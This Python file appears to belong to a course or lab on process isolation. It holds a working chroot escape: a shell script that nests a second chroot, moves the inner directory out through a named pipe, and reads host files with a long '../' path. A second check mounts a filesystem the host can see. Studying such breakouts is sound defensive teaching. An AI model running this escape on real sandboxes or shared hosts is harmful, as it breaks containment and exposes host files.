"""The attack of chapter 03: climb out of the chroot, and litter the host's mount tree.

chroot moves the start of absolute paths, and `..` stops where it *meets* that start. Whoever
stands beside it never meets it. So the attacker makes a second chroot, /cage, in which a process
enters /cage/nest, and then moves the nest out of the cage: from there `..` goes up, past the
first chroot's root too, to the root of the host's mount tree.

The textbook's way (keep the working directory outside, call chroot) needs a C program, because
chroot(8) changes the directory as well. This one needs a shell. Both need the right to chroot.
"""

from __future__ import annotations

from pathlib import Path

from chapters.ground import Ground

# The pipe tells that the process is in the nest, the named pipe that the nest has been moved.
CLIMB = """
mkdir -p /cage/nest
cp -a /bin /cage/
for directory in /lib /lib64 /usr; do [ -e $directory ] && cp -a $directory /cage/; done
mkfifo /cage/moved

chroot /cage /bin/sh -c '
    cd /nest
    echo "in the nest"
    read -r word </moved
    cat "../../../../../../../../../../../../../../../..$1"
' inner "$1" | {
    read -r word
    mv /cage/nest /nest
    echo >/cage/moved
    cat
}
"""


def climb_out(ground: Ground) -> bool:
    """climb out of the chroot, and read a file of the host"""
    secret = ground.file("secret", "the host's secret")
    return "the host's secret" in ground.run(CLIMB, secret)


def mount_on_the_host(ground: Ground) -> bool:
    """mount something that the host sees"""
    ground.run("mkdir -p /litter && mount -t tmpfs litter /litter")
    return "/litter" in Path("/proc/self/mountinfo").read_text()


ATTACKS = (climb_out, mount_on_the_host)
